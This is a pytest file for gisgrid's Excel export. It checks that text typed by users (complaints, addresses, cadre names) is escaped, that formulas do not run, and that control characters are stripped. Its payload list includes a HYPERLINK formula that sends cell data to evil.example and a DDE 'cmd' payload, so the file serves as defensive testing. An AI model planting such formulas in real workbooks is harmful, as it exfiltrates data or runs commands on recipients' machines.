"""Workbooks never run what people typed (issue 15.8) and never fail on a control character
(issue 15.12): every XLSX gisgrid writes goes through ``gisgrid.io.workbook``; the weekly 诉求清单,
the roster and ``stats --xlsx`` are checked on projects holding the payloads."""

import datetime as dt

import numpy as np
import openpyxl
import pandas as pd
import pytest
from report_case import make_report_project

from gisgrid.cli import main
from gisgrid.io.workbook import excel_cell, excel_text, write_workbook
from gisgrid.project import Project
from gisgrid.report import ReportParams, weekly_report, write_pack
from gisgrid.roster import write_roster

#: What an attacker types into a hotline complaint, an address or a cadre's name.
FORMULA = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
PAYLOADS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
CONTROL = "第一行\x0b第二行\x1b[31m红字\x07"


def _cells(path, sheet=None):
    book = openpyxl.load_workbook(path)  # not data_only: a formula would show as such
    ws = book[sheet] if sheet else book.worksheets[0]
    return [cell for row in ws.iter_rows() for cell in row]


def test_text_is_text_numbers_and_dates_stay_typed(tmp_path):
    table = pd.DataFrame(
        {
            "内容": [*PAYLOADS, CONTROL, "#N/A"],
            "数": [-5, -0.5, 3, np.int64(-7), np.nan, 1e3, 0, 2],
            "时间": [pd.Timestamp("2026-11-03 15:00"), pd.NaT, dt.date(2026, 11, 4),
                     pd.Timestamp("2026-11-03 07:00", tz="UTC"), None,
                     np.datetime64("2026-11-05T08:00"), dt.datetime(2026, 1, 1), None],
        }
    )  # fmt: skip
    path = write_workbook(tmp_path / "t.xlsx", {"表\x07": table, "=x": table})
    assert openpyxl.load_workbook(path).sheetnames == ["表", "=x"]
    cells = {(c.row, c.column): c for c in _cells(path)}
    for r, payload in enumerate(PAYLOADS, start=2):
        cell = cells[(r, 1)]
        # the file holds the CR; an XML reader hands it back as a line feed
        assert cell.data_type == "s" and cell.value == "'" + payload.replace("\r", "\n")
    assert cells[(8, 1)].value == "第一行\n第二行[31m红字" and cells[(8, 1)].data_type == "s"
    assert (cells[(9, 1)].value, cells[(9, 1)].data_type) == ("#N/A", "s")
    assert [cells[(r, 2)].value for r in range(2, 10)] == [-5, -0.5, 3, -7, None, 1000, 0, 2]
    assert all(cells[(r, 2)].data_type == "n" for r in range(2, 10))
    assert cells[(2, 3)].value == dt.datetime(2026, 11, 3, 15, 0) and cells[(2, 3)].is_date
    assert cells[(5, 3)].value == dt.datetime(2026, 11, 3, 15, 0)  # UTC 07:00 is 15:00 here
    assert cells[(7, 3)].value == dt.datetime(2026, 11, 5, 8, 0) and cells[(7, 3)].is_date
    assert not any(c.data_type == "f" for c in cells.values())


def test_cell_helpers():
    assert excel_text("=1+1") == "'=1+1" and excel_text("正常-文字") == "正常-文字"
    assert excel_cell(-3) == -3 and excel_cell(float("inf")) is None and excel_cell(pd.NaT) is None
    assert excel_cell(True) is True and excel_cell(["=a"]) == "['=a']"


@pytest.fixture
def hostile_project():
    project = make_report_project()
    issues = project.layer("issues").copy()
    week = (issues["reported_at"] >= "2026-11-16") & (issues["reported_at"] < "2026-11-23")
    first = issues.index[week][:3]
    issues.loc[first[0], "description"] = FORMULA
    issues.loc[first[1], "description"] = CONTROL
    issues.loc[first[2], "address"] = "@SUM(1+1)\x0c楼下"
    project.set_layer("issues", issues)
    grids = project.layer("grids_small").copy()
    grids.loc[grids.index[0], "name"] = "=1+1\x1b"
    project.set_layer("grids_small", grids)
    villages = project.layer("villages").copy()
    villages.loc[villages.index[0], "name"] = "-2+3村"
    project.set_layer("villages", villages)
    cadres = project.layer("cadres").copy()
    cadres.loc[cadres.index[0], "name"] = "+周建国\x07"
    project.set_layer("cadres", cadres)
    return project


def _values(path, sheet):
    return [c.value for c in _cells(path, sheet) if isinstance(c.value, str)]


def test_weekly_ledger_keeps_user_text_as_text(hostile_project, tmp_path):
    report = weekly_report(hostile_project, ReportParams(week="2026-W47", permutations=19))
    written = write_pack(report, tmp_path)  # the whole pack, not a crash on one character
    assert written["xlsx"].exists() and written["pdf"].exists()
    cells = _cells(written["xlsx"], "诉求清单")
    assert not any(c.data_type == "f" for c in cells)
    texts = _values(written["xlsx"], "诉求清单")
    assert "'" + FORMULA in texts and "第一行\n第二行[31m红字" in texts
    assert "'@SUM(1+1)\n楼下" in texts
    assert not any("\x1b" in t or "\x07" in t or "\x0b" in t for t in texts)


def test_roster_and_stats_workbooks(hostile_project, tmp_path):
    roster = write_roster(hostile_project, tmp_path / "花名册.xlsx", show_contacts=True)
    texts = _values(roster, None)
    assert "'=1+1" in texts and "'+周建国" in texts and "'-2+3村" in texts
    assert not any(c.data_type == "f" for c in _cells(roster))
    gpkg = tmp_path / "t.gpkg"
    hostile_project.save(gpkg)
    out = tmp_path / "统计.xlsx"
    assert main(["stats", str(gpkg), "--xlsx", str(out)]) == 0
    book = openpyxl.load_workbook(out)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert "'-2+3村" in [c.value for c in cells] and "'=1+1" in [c.value for c in cells]
    numbers = [c for c in cells if c.column > 3 and c.row > 1]
    assert numbers and all(c.data_type == "n" for c in numbers)
    assert Project.open(gpkg).layer("villages")["name"].iloc[0] == "-2+3村"  # data unchanged
